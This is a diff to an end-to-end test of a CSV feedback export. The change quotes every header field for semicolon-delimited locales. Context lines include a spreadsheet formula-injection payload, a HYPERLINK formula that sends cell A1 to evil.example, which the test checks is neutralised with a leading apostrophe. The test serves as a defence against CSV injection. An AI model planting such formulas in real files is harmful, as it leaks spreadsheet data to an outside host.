@@ -154,7 +154,8 @@ test('the period changes the numbers, live updates arrive, and the CSV exports e
   const feedback = readFileSync((await feedbackFile.path())!, 'utf8');
   expect(feedback.startsWith('\uFEFF')).toBe(true);
   const lines = feedback.slice(1).split('\r\n');
-  expect(lines[0]).toMatch(/^Given \(.+\),Verdict,Reasons,Note,Author,Campaign,Contact,Contact email or page,Lead,Replies,Reply thread,Feedback id$/);
+  // Every text field quoted, so a spreadsheet that splits on ; (many European locales) keeps the cells.
+  expect(lines[0]).toMatch(/^"Given \(.+\)","Verdict","Reasons","Note","Author","Campaign","Contact","Contact email or page","Lead","Replies","Reply thread","Feedback id"$/);
   expect(feedback).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Details"")"`);
   expect(feedback).not.toMatch(/(^|,)"?=HYPERLINK/m);
   expect(feedback).toMatch(/Priya Shah \(\d{4}-\d\d-\d\d \d\d:\d\d\): Thanks, that helps/);
